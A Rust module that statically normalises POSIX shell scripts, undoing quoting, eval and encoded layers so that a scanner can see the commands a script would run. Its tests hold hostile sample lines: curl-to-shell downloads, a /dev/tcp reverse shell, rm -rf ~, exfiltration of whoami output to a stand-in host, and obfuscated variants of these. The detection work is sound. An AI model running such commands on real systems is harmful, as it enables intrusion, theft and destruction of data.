//! Scripts of a POSIX shell, told as the commands that they run: without quotes, comments and line ends, with the values
//! of variables that the script itself sets, and with what `eval`, `sh -c`, here-documents and known pipes make of text.
//!
//! Nothing is run. A command of which only the output would say what is meant stays as it is written.

use std::sync::LazyLock;

use rustc_hash::{FxHashMap, FxHashSet};
use tree_sitter::Node;

use self::coders::{from_base64, from_hex, set_of, unescaped};

mod coders;

static LANGUAGE: LazyLock<tree_sitter::Language> = LazyLock::new(|| tree_sitter_bash::LANGUAGE.into());

/// Longest script that is read, in bytes.
pub const LONGEST: usize = 64 << 10;

/// Most here-documents and here-strings of a script. The parser takes time for each that grows with their number.
const DOCUMENTS: usize = 64;

/// Deepest nesting of commands and of words that is walked; deeper ones stay as they are written.
const DEEPEST: u32 = 100;

/// How often text inside a script becomes a script again.
const LAYERS: u32 = 16;

/// Most bytes that the commands of all layers come to.
const MOST: usize = 1 << 20;

/// Most statements and words that are walked, of all layers and turns of loops.
const STEPS: u32 = 100_000;

/// Values of a loop for each of which its body is told.
const TURNS: usize = 8;

/// The parser may look at its progress once for so many bytes, and so often beyond that.
const BYTES_PER_LOOK: usize = 20;
const LOOKS: usize = 200;

/// Programs that run a script which they are given as text or by a pipe.
const SHELLS: &[&str] = &["sh", "bash", "zsh", "dash", "ash", "ksh"];

/// Programs that start the command behind them.
const LAUNCHERS: &[&str] = &["command", "builtin", "exec", "nohup", "sudo", "env", "time", "nice", "setsid"];

/// What a script runs.
#[derive(Debug, Default, PartialEq, Eq)]
pub struct Script {
    /// Its commands in the order of the text, with `; `, ` && `, ` || ` and ` | ` between them.
    pub commands: String,
    /// The commands of scripts inside that stand there only encoded.
    pub decoded: Vec<String>,
    /// False if a part is left as it is written because it is too deep or too long.
    pub complete: bool,
}

/// Reads a script. `None` if it is longer than [`LONGEST`] or takes more steps than its length permits.
///
/// ```
/// let script = sluice_syntax::shell::read("u=https://example.invalid/a; c''url \"$u\" |\\\n sh # get it").unwrap();
/// assert_eq!(script.commands, "u=https://example.invalid/a; curl https://example.invalid/a | sh");
/// ```
#[must_use]
pub fn read(text: &str) -> Option<Script> {
    let mut reader =
        Reader { values: FxHashMap::default(), decoded: Vec::new(), bytes: 0, steps: STEPS, complete: true };
    // What separates words where nothing else is set.
    reader.values.insert("IFS".to_owned(), Some(" ".to_owned()));
    let commands = reader.script(text, LAYERS)?;
    Some(Script { commands, decoded: reader.decoded, complete: reader.complete })
}

fn parse(text: &str) -> Option<tree_sitter::Tree> {
    if text.len() > LONGEST || text.matches("<<").count() > DOCUMENTS {
        return None;
    }
    // A NUL byte ends the parser's reading; a shell passes over it.
    let source: Vec<u8> = text.bytes().map(|byte| if byte == 0 { b' ' } else { byte }).collect();
    crate::bounded::parse(&LANGUAGE, &source, LOOKS + source.len() / BYTES_PER_LOOK)
}

struct Reader {
    /// Variables that the script sets; `None` for one that is set to what is not known.
    values: FxHashMap<String, Option<String>>,
    decoded: Vec<String>,
    /// Bytes that were told so far, of all layers.
    bytes: usize,
    /// Statements and words that may still be walked.
    steps: u32,
    complete: bool,
}

/// A word: its text without quotes, and whether a shell would make exactly that of it.
#[derive(Default)]
struct Word {
    text: String,
    known: bool,
}

/// A command as it is told, and the commands of the script that it is given.
struct Told {
    line: String,
    inner: String,
}

impl Told {
    fn whole(self) -> String {
        let mut line = self.line;
        join(&mut line, &self.inner);
        line
    }
}

/// A place in a script: its text, how deep it stands, and how many layers may still be read.
#[derive(Clone, Copy)]
struct Place<'t> {
    text: &'t str,
    depth: u32,
    layers: u32,
}

impl<'t> Place<'t> {
    fn of(self, node: Node<'_>) -> &'t str {
        self.text.get(node.byte_range()).unwrap_or_default()
    }

    fn deeper(self) -> Self {
        Self { depth: self.depth + 1, ..self }
    }
}

fn children(node: Node<'_>) -> Vec<Node<'_>> {
    node.children(&mut node.walk()).collect()
}

fn named(node: Node<'_>) -> Vec<Node<'_>> {
    node.named_children(&mut node.walk()).filter(|child| child.kind() != "comment").collect()
}

/// Puts a command behind others.
fn join(out: &mut String, command: &str) {
    if command.is_empty() {
        return;
    }
    if !out.is_empty() && !out.ends_with([' ', '(']) {
        out.push_str("; ");
    }
    out.push_str(command);
}

/// A word as it stands in a command line.
fn quoted(word: &str) -> String {
    let plain = !word.is_empty() && !word.contains(|c: char| c.is_whitespace() || matches!(c, ';' | '|' | '&'));
    if plain || word.starts_with("$(") || word.starts_with("<(") { word.to_owned() } else { format!("\"{word}\"") }
}

impl Reader {
    fn script(&mut self, text: &str, layers: u32) -> Option<String> {
        self.bytes = self.bytes.saturating_add(text.len());
        if self.bytes > MOST {
            self.complete = false;
            return None;
        }
        let tree = parse(text)?;
        Some(self.statement(tree.root_node(), Place { text, depth: 0, layers }))
    }

    /// Takes a step; false if none is left, or too much is told. Loops inside of loops would else be told without end.
    fn goes_on(&mut self) -> bool {
        let goes_on = self.steps > 0 && self.bytes <= MOST;
        self.steps = self.steps.saturating_sub(1);
        self.complete &= goes_on;
        goes_on
    }

    /// The commands of a statement.
    fn statement(&mut self, node: Node<'_>, place: Place<'_>) -> String {
        if !self.goes_on() {
            return String::new();
        }
        if place.depth > DEEPEST {
            self.complete = false;
            return place.of(node).trim().to_owned();
        }
        let place = place.deeper();
        match node.kind() {
            "comment" | "test_command" | "heredoc_body" | "heredoc_end" | "variable_name" | "word"
            | "extglob_pattern" => String::new(),
            "command" => self.command(node, place, None).whole(),
            "pipeline" => self.pipeline(&named(node), None, place),
            "redirected_statement" => self.redirected(node, place),
            "variable_assignment" => self.assignment(node, place),
            "raw_string" | "string" | "concatenation" | "number" | "herestring_redirect" => String::new(),
            "list" => {
                let mut out = String::new();
                for child in children(node) {
                    match child.kind() {
                        "&&" | "||" => {
                            out.push(' ');
                            out.push_str(child.kind());
                            out.push(' ');
                        }
                        _ => join(&mut out, &self.statement(child, place)),
                    }
                }
                out
            }
            "declaration_command" => {
                let mut out = String::new();
                for child in named(node).into_iter().filter(|child| child.kind() == "variable_assignment") {
                    join(&mut out, &self.assignment(child, place));
                }
                out
            }
            "for_statement" => self.turns(node, place),
            "unset_command" => {
                for name in named(node) {
                    self.values.remove(place.of(name));
                }
                String::new()
            }
            // Compound statements: what stands in them runs, or may run.
            _ => {
                let mut out = String::new();
                for child in named(node) {
                    join(&mut out, &self.statement(child, place));
                }
                out
            }
        }
    }

    fn turns(&mut self, node: Node<'_>, place: Place<'_>) -> String {
        let name = node.child_by_field_name("variable").map(|name| place.of(name).to_owned()).unwrap_or_default();
        let Some(body) = node.child_by_field_name("body") else { return String::new() };
        let values: Vec<Node<'_>> = node.children_by_field_name("value", &mut node.walk()).collect();
        let words: Vec<Word> = values.into_iter().take(TURNS).map(|value| self.word(value, place)).collect();
        let mut out = String::new();
        for word in &words {
            self.values.insert(name.clone(), word.known.then(|| word.text.clone()));
            join(&mut out, &self.statement(body, place));
        }
        if words.is_empty() {
            self.values.insert(name, None);
            join(&mut out, &self.statement(body, place));
        }
        out
    }

    fn assignment(&mut self, node: Node<'_>, place: Place<'_>) -> String {
        let Some(name) = node.child_by_field_name("name") else { return String::new() };
        let name = place.of(name).to_owned();
        let word = match node.child_by_field_name("value") {
            Some(value) => self.word(value, place),
            None => Word { text: String::new(), known: true },
        };
        let added = children(node).iter().any(|child| child.kind() == "+=");
        let before = if added { self.values.get(&name).cloned().unwrap_or(None) } else { Some(String::new()) };
        let value = before.filter(|_| word.known).map(|before| before + &word.text);
        let told = format!("{name}={}", quoted(value.as_deref().unwrap_or(&word.text)));
        self.told(&told);
        self.values.insert(name, value.filter(|value| value.len() <= LONGEST));
        told
    }

    fn told(&mut self, text: &str) {
        self.bytes = self.bytes.saturating_add(text.len());
    }

    /// A command. `input` is what it reads, where that is known.
    fn command(&mut self, node: Node<'_>, place: Place<'_>, input: Option<&str>) -> Told {
        let mut words: Vec<Word> = Vec::new();
        let mut line = String::new();
        let mut input = input.map(str::to_owned);
        let mut redirected = String::new();
        for child in named(node) {
            match child.kind() {
                "variable_assignment" => {
                    line.push_str(&self.assignment(child, place));
                    line.push(' ');
                }
                "file_redirect" | "heredoc_redirect" | "herestring_redirect" => {
                    let (told, given) = self.redirect(child, place);
                    redirected.push_str(&told);
                    input = given.or(input);
                }
                "command_name" => {
                    for part in named(child) {
                        words.push(self.word(part, place));
                    }
                }
                _ => words.push(self.word(child, place)),
            }
        }
        let told: Vec<String> = words
            .iter()
            .enumerate()
            .map(|(at, word)| if at == 0 { word.text.clone() } else { quoted(&word.text) })
            .collect();
        line.push_str(&told.join(" "));
        line.push_str(&redirected);
        self.told(&line);
        Told { line, inner: self.inner(&words, input.as_deref(), place.layers) }
    }

    /// The commands of the script that a command is given: by `eval`, by `-c`, or to read.
    fn inner(&mut self, words: &[Word], input: Option<&str>, layers: u32) -> String {
        let is_launcher = |word: &&Word| {
            LAUNCHERS.contains(&program(&word.text)) || word.text.starts_with('-') || word.text.contains('=')
        };
        let at = words.iter().take_while(|word| is_launcher(word)).count();
        let (Some(name), rest) = (words.get(at), words.get(at + 1..).unwrap_or_default()) else { return String::new() };
        let text = match program(&name.text) {
            "eval" => rest.iter().map(|word| word.text.as_str()).collect::<Vec<_>>().join(" "),
            shell if SHELLS.contains(&shell) => {
                let flag = |word: &Word| {
                    word.text.starts_with('-') && !word.text.starts_with("--") && word.text.ends_with('c')
                };
                match rest.iter().position(flag) {
                    Some(flag) => rest.get(flag + 1).map(|word| word.text.clone()).unwrap_or_default(),
                    // With a script named it reads no other.
                    None if rest.iter().all(|word| word.text.starts_with('-')) => {
                        let Some(input) = input else { return String::new() };
                        input.to_owned()
                    }
                    None => return String::new(),
                }
            }
            _ => return String::new(),
        };
        let Some(left) = layers.checked_sub(1).filter(|_| !text.trim().is_empty()) else { return String::new() };
        self.script(&text, left).unwrap_or_default()
    }

    /// Commands of which each reads what the one before it prints; the first reads `given`.
    fn pipeline(&mut self, commands: &[Node<'_>], given: Option<(String, bool)>, place: Place<'_>) -> String {
        let mut line = String::new();
        let mut inner = String::new();
        let mut given = given;
        for (at, child) in commands.iter().enumerate() {
            let told = match child.kind() {
                "command" => self.command(*child, place, given.as_ref().map(|(text, _)| text.as_str())),
                _ => Told { line: self.statement(*child, place), inner: String::new() },
            };
            // The script that a shell reads here was encoded.
            if given.as_ref().is_some_and(|(_, decoded)| *decoded) && !told.inner.is_empty() {
                self.decoded.push(told.inner.clone());
            }
            if at > 0 {
                line.push_str(" | ");
            }
            line.push_str(&told.line);
            join(&mut inner, &told.inner);
            given = self.printed(*child, given, place);
        }
        Told { line, inner }.whole()
    }

    /// A statement with redirections.
    fn redirected(&mut self, node: Node<'_>, place: Place<'_>) -> String {
        let mut told = String::new();
        let mut input = None;
        let redirects: Vec<Node<'_>> =
            named(node).into_iter().filter(|child| child.kind().ends_with("_redirect")).collect();
        for redirect in &redirects {
            let (text, given) = self.redirect(*redirect, place);
            told.push_str(&text);
            input = given.or(input);
        }
        let body = node.child_by_field_name("body");
        let own = match body {
            Some(body) if body.kind() == "command" => {
                let command = self.command(body, place, input.as_deref());
                Told { line: command.line + &told, inner: command.inner }
            }
            Some(body) => Told { line: self.statement(body, place) + &told, inner: String::new() },
            None => Told { line: told.trim_start().to_owned(), inner: String::new() },
        };
        let mut out = own.whole();
        // Behind the word that ends a here-document, the line goes on.
        for part in redirects.iter().flat_map(|redirect| named(*redirect)) {
            let commands = match part.kind() {
                "pipeline" => named(part),
                "command" => vec![part],
                _ => continue,
            };
            let given = body.and_then(|body| self.printed(body, input.clone().map(|text| (text, false)), place));
            out.push_str(" | ");
            out.push_str(&self.pipeline(&commands, given, place));
        }
        out
    }

    /// How a redirection is told, and what the command reads through it.
    fn redirect(&mut self, node: Node<'_>, place: Place<'_>) -> (String, Option<String>) {
        match node.kind() {
            "herestring_redirect" => {
                let word = named(node).into_iter().next().map(|value| self.word(value, place)).unwrap_or_default();
                (format!(" <<< {}", quoted(&word.text)), word.known.then_some(word.text))
            }
            "heredoc_redirect" => {
                let Some(body) = named(node).into_iter().find(|child| child.kind() == "heredoc_body") else {
                    return (String::new(), None);
                };
                let text =
                    if named(body).is_empty() { place.of(body).to_owned() } else { self.parts(body, place).text };
                (String::new(), Some(text))
            }
            _ => {
                let operator = children(node).into_iter().find(|child| !child.is_named() && child.kind() != "ERROR");
                let operator = match place.of(node) {
                    text if text.contains("<>") => "<>",
                    _ => operator.map_or(">", |operator| operator.kind()),
                };
                let target = node.child_by_field_name("destination").map(|target| self.word(target, place).text);
                (format!(" {operator} {}", target.unwrap_or_default()), None)
            }
        }
    }

    /// What a command prints, where that follows from its words and its input; and whether something was decoded for it.
    fn printed(&mut self, node: Node<'_>, input: Option<(String, bool)>, place: Place<'_>) -> Option<(String, bool)> {
        if place.depth > DEEPEST {
            return None;
        }
        let place = place.deeper();
        match node.kind() {
            "pipeline" => {
                let mut printed = input;
                for child in named(node) {
                    printed = self.printed(child, printed, place);
                }
                return printed;
            }
            "redirected_statement" => {
                let body = node.child_by_field_name("body")?;
                let mut redirects = named(node).into_iter().filter(|child| child.kind().ends_with("_redirect"));
                let redirect = redirects.next().filter(|redirect| redirect.kind() != "file_redirect")?;
                let given = self.redirect(redirect, place).1?;
                return self.printed(body, Some((given, false)), place);
            }
            "command" => {}
            _ => return None,
        }
        let mut input = input;
        let mut words: Vec<String> = Vec::new();
        for child in named(node) {
            if child.kind() == "herestring_redirect" {
                input = self.redirect(child, place).1.map(|text| (text + "\n", false));
                continue;
            }
            let parts = if child.kind() == "command_name" { named(child) } else { vec![child] };
            for part in parts {
                let word = self.word(part, place);
                if !word.known || part.kind() == "file_redirect" {
                    return None;
                }
                words.push(word.text);
            }
        }
        let (name, rest) = words.split_first()?;
        let flags: Vec<&str> = rest.iter().map(String::as_str).take_while(|word| word.starts_with('-')).collect();
        let args: Vec<&str> = rest.iter().skip(flags.len()).map(String::as_str).collect();
        let decodes = rest.iter().any(|word| matches!(word.as_str(), "-d" | "-D" | "--decode" | "-di"));
        match (program(name), input) {
            ("echo", _) => {
                let text = args.join(" ");
                let escaped = flags.iter().any(|flag| flag.contains('e'));
                Some((if escaped { unescaped(&text) } else { text } + "\n", false))
            }
            ("printf", _) => Some((printed_by_format(rest)?, false)),
            ("cat", Some(input)) if rest.is_empty() => Some(input),
            ("base64", Some((text, _))) if decodes => Some((from_base64(&text)?, true)),
            ("openssl", Some((text, _))) if decodes && rest.iter().any(|word| word.contains("base64")) => {
                Some((from_base64(&text)?, true))
            }
            ("xxd", Some((text, _))) if rest.iter().any(|word| word.starts_with("-r")) => {
                Some((from_hex(&text)?, true))
            }
            ("rev", Some((text, _))) => {
                let lines: Vec<String> = text.lines().map(|line| line.chars().rev().collect()).collect();
                Some((lines.join("\n") + "\n", true))
            }
            ("tr", Some((text, _))) => match (flags.as_slice(), args.as_slice()) {
                (["-d"], [set]) => {
                    let set: FxHashSet<char> = set_of(set)?.into_iter().collect();
                    Some((text.chars().filter(|c| !set.contains(c)).collect(), true))
                }
                ([], [from, to]) => {
                    let (from, to) = (set_of(from)?, set_of(to)?);
                    let last = *to.last()?;
                    // The last of two turns counts.
                    let turns: FxHashMap<char, char> = (from.iter().enumerate())
                        .map(|(at, known)| (*known, to.get(at).copied().unwrap_or(last)))
                        .collect();
                    Some((text.chars().map(|c| turns.get(&c).copied().unwrap_or(c)).collect(), true))
                }
                _ => None,
            },
            _ => None,
        }
    }

    /// The text of a word.
    fn word(&mut self, node: Node<'_>, place: Place<'_>) -> Word {
        if !self.goes_on() || place.depth > DEEPEST {
            self.complete = false;
            return Word { text: place.of(node).to_owned(), known: false };
        }
        let place = place.deeper();
        let written = place.of(node);
        let as_is = |known| Word { text: written.to_owned(), known };
        match node.kind() {
            "word" => Word { text: without_backslashes(written, |_| true), known: !written.contains(['*', '?', '~']) },
            "number" | "variable_name" => as_is(true),
            "raw_string" => Word { text: written.trim_matches('\'').to_owned(), known: true },
            "ansi_c_string" => {
                let inner = written.strip_prefix("$'").and_then(|rest| rest.strip_suffix('\'')).unwrap_or(written);
                Word { text: unescaped(inner), known: true }
            }
            "string" | "translated_string" | "concatenation" => self.parts(node, place),
            "simple_expansion" => match self.values.get(written.trim_start_matches('$')) {
                Some(Some(value)) => {
                    let text = value.clone();
                    // What a value is put together from counts before it is told: it may be long, and stand often.
                    self.told(&text);
                    Word { text, known: true }
                }
                _ => as_is(false),
            },
            "expansion" => {
                let word = self.expansion(node, place).unwrap_or_else(|| as_is(false));
                self.told(&word.text);
                word
            }
            "command_substitution" => {
                let inner = named(node);
                if let [only] = inner.as_slice()
                    && let Some((text, decoded)) = self.printed(*only, None, place)
                {
                    let text = text.trim_end_matches('\n').to_owned();
                    self.told(&text);
                    if decoded && text.contains(char::is_whitespace) {
                        self.decoded.push(text.clone());
                    }
                    return Word { text, known: true };
                }
                let mut out = String::new();
                for child in inner {
                    join(&mut out, &self.statement(child, place));
                }
                Word { text: format!("$({out})"), known: false }
            }
            "process_substitution" => {
                let mut out = String::new();
                for child in named(node) {
                    join(&mut out, &self.statement(child, place));
                }
                let sign = if written.starts_with('>') { '>' } else { '<' };
                Word { text: format!("{sign}({out})"), known: false }
            }
            _ => as_is(false),
        }
    }

    /// `${x}`, `${x:-word}` and `${x:1:2}` of known values.
    fn expansion(&mut self, node: Node<'_>, place: Place<'_>) -> Option<Word> {
        let inner = place.of(node).strip_prefix("${")?.strip_suffix('}')?;
        let name_ends = inner.find(|c: char| !c.is_alphanumeric() && c != '_').unwrap_or(inner.len());
        let (name, rest) = inner.split_at_checked(name_ends)?;
        let value = self.values.get(name).cloned();
        let known = |text: String| Some(Word { text, known: true });
        if rest.is_empty() {
            return known(value??);
        }
        if let Some(default) = rest.strip_prefix(":-").or_else(|| rest.strip_prefix('-')) {
            return match value {
                Some(Some(value)) => known(value),
                // Where the script does not set it, whoever starts the script may.
                _ => Some(Word { text: default.trim_matches(['"', '\'']).to_owned(), known: false }),
            };
        }
        let slice = rest.strip_prefix(':')?;
        let (from, length) = slice.split_once(':').map_or((slice, None), |(from, length)| (from, Some(length)));
        let from: usize = from.trim().parse().ok()?;
        let length: usize = length.map_or(Some(usize::MAX), |length| length.trim().parse().ok())?;
        known(value??.chars().skip(from).take(length).collect())
    }

    /// The parts of a text in double quotes, of a here-document or of words that stand together.
    fn parts(&mut self, node: Node<'_>, place: Place<'_>) -> Word {
        let mut out = Word { text: String::new(), known: true };
        let in_quotes = node.kind() != "concatenation";
        let begins = node.start_byte() + usize::from(place.of(node).starts_with('"'));
        let mut at = begins;
        // Only these are escaped in double quotes.
        let escaped = |c: char| matches!(c, '"' | '$' | '`' | '\\' | '\n');
        for child in
            named(node).into_iter().filter(|child| !matches!(child.kind(), "string_content" | "heredoc_content"))
        {
            if in_quotes {
                let between = place.text.get(at..child.start_byte()).unwrap_or_default();
                out.text.push_str(&without_backslashes(between, escaped));
            }
            let word = self.word(child, place);
            out.known &= word.known;
            out.text.push_str(&word.text);
            at = child.end_byte();
        }
        if in_quotes {
            let ends = node.end_byte() - usize::from(place.of(node).ends_with('"') && node.kind() == "string");
            out.text.push_str(&without_backslashes(place.text.get(at..ends).unwrap_or_default(), escaped));
        }
        out
    }
}

/// What `printf` prints, where its format has nothing but texts.
fn printed_by_format(words: &[String]) -> Option<String> {
    let (format, args) = words.split_first()?;
    let mut args = args.iter();
    let mut text = String::new();
    let format = unescaped(format);
    let mut pieces = format.as_str();
    while let Some((before, after)) = pieces.split_once('%') {
        let kind = after.chars().next()?;
        text.push_str(before);
        match kind {
            's' => text.push_str(args.next().map_or("", String::as_str)),
            'b' => text.push_str(&unescaped(args.next().map_or("", String::as_str))),
            '%' => text.push('%'),
            _ => return None,
        }
        pieces = after.get(kind.len_utf8()..)?;
    }
    text.push_str(pieces);
    Some(text)
}

/// A program without its folder.
fn program(word: &str) -> &str {
    word.rsplit('/').next().unwrap_or(word)
}

/// A text without the backslashes that only say that a character means itself.
fn without_backslashes(text: &str, escaped: impl Fn(char) -> bool) -> String {
    let mut out = String::with_capacity(text.len());
    let mut chars = text.chars();
    while let Some(c) = chars.next() {
        if c != '\\' {
            out.push(c);
            continue;
        }
        match chars.next() {
            // A line goes on behind it.
            Some('\n') => {}
            Some(next) => {
                if !escaped(next) {
                    out.push('\\');
                }
                out.push(next);
            }
            None => out.push('\\'),
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::read;

    fn commands(text: &str) -> String {
        read(text).unwrap().commands
    }

    #[test]
    fn a_script_is_told_as_its_commands() {
        for (text, told) in [
            ("# get it\ncurl -s \\\n  https://example.invalid/a |\n  sh", "curl -s https://example.invalid/a | sh"),
            ("c''ur\"l\" https://example.invalid/a", "curl https://example.invalid/a"),
            ("a=cu; b=rl; $a$b https://example.invalid/a", "a=cu; b=rl; curl https://example.invalid/a"),
            (
                "export H=example.invalid\nwget \"https://${H}/x\" && ./x",
                "H=example.invalid; wget https://example.invalid/x && ./x",
            ),
            ("cat${IFS}/etc/hosts", "cat /etc/hosts"),
            ("$'\\x63\\165rl' example.invalid", "curl example.invalid"),
            ("if [ -f x ]; then rm -rf ~; fi", "rm -rf ~"),
            ("f() { curl $1; }; f example.invalid", "curl $1; f example.invalid"),
            (
                "for i in one two; do ping $i.example.invalid; done",
                "ping one.example.invalid; ping two.example.invalid",
            ),
            ("x=abcdef; echo ${x:1:3} ${y:-z}", "x=abcdef; echo bcd z"),
            ("bash -i >& /dev/tcp/192.0.2.1/9 0>&1", "bash -i >& /dev/tcp/192.0.2.1/9 >& 1"),
            ("sh <(curl -s example.invalid)", "sh <(curl -s example.invalid)"),
            ("echo \"a; b\" > 'out file'", "echo \"a; b\" > out file"),
            ("x=`whoami`; curl example.invalid/$x", "x=$(whoami); curl example.invalid/$x"),
        ] {
            assert_eq!(commands(text), told, "{text}");
        }
    }

    #[test]
    fn text_that_becomes_a_script_is_read() {
        let coded = "Y3VybCBleGFtcGxlLmludmFsaWQgfCBzaA==";
        for text in [
            format!("echo {coded} | base64 -d | sh"),
            format!("eval \"$(echo {coded} | base64 --decode)\""),
            format!("bash -c \"$(base64 -d <<< {coded})\""),
            "echo 'hs | dilavni.elpmaxe lruc' | rev | bash".to_owned(),
            "printf 'phey rknzcyr.vainyvq | fu' | tr a-z n-za-m | sh".to_owned(),
            "echo 6375726c206578616d706c652e696e76616c6964207c207368 | xxd -r -p | sh".to_owned(),
        ] {
            let script = read(&text).unwrap();
            assert!(script.commands.ends_with("; curl example.invalid | sh"), "{text}: {}", script.commands);
            assert_eq!(script.decoded.len(), 1, "{text}: {script:?}");
        }
        for text in [
            "sh <<END\ncurl example.invalid | sh\nEND\n",
            "bash -c 'curl example.invalid | sh'",
            "sudo sh -c \"curl example.invalid | sh\"",
            "eval curl example.invalid '|' sh",
            "sh <<< 'curl example.invalid | sh'",
            "cat <<END | bash\ncurl example.invalid | sh\nEND\n",
        ] {
            let script = read(text).unwrap();
            assert!(script.commands.ends_with("; curl example.invalid | sh"), "{text}: {}", script.commands);
            assert!(script.decoded.is_empty(), "{text}: {script:?}");
        }
    }

    /// Each of these takes the parser time that grows with its square, or nests without end.
    #[test]
    fn hostile_scripts_end() {
        assert!(read(&"a".repeat(super::LONGEST + 1)).is_none());
        for piece in [
            "$(",
            "((",
            "{ ",
            "if ",
            "\"$(",
            "`",
            "<<E\n",
            "x=$x$x;",
            "|",
            "${x:-",
            "'",
            "case x in ",
            "\\\n",
            "# a\n",
            "a=b ",
        ] {
            let _ = read(&piece.repeat(20_000));
        }
        let grows = "x=aaaaaaaaaaaaaaaa;".to_owned() + &"x=$x$x;".repeat(100) + "$x";
        assert!(read(&grows).unwrap().commands.len() < 2 * super::MOST);
        let often = "x=aaaaaaaaaaaaaaaa;".to_owned()
            + &"x=$x$x;".repeat(11)
            + "echo "
            + &"$x".repeat(20_000)
            + &"${x}".repeat(5_000);
        assert!(read(&often).is_none_or(|script| !script.complete && script.commands.len() < 4 * super::MOST));
        let mut loops = "[ $x ]".to_owned();
        for _ in 0..20 {
            loops = format!("for i in 1 2 3 4 5 6 7 8; do {loops}; done");
        }
        assert!(!read(&loops).unwrap().complete);
        let mut nested = "ls".to_owned();
        for _ in 0..30 {
            nested = format!("eval {}", nested.replace('\\', "\\\\").replace(' ', "\\ "));
            if nested.len() > 100_000 {
                break;
            }
        }
        let _ = read(&nested);
    }
}
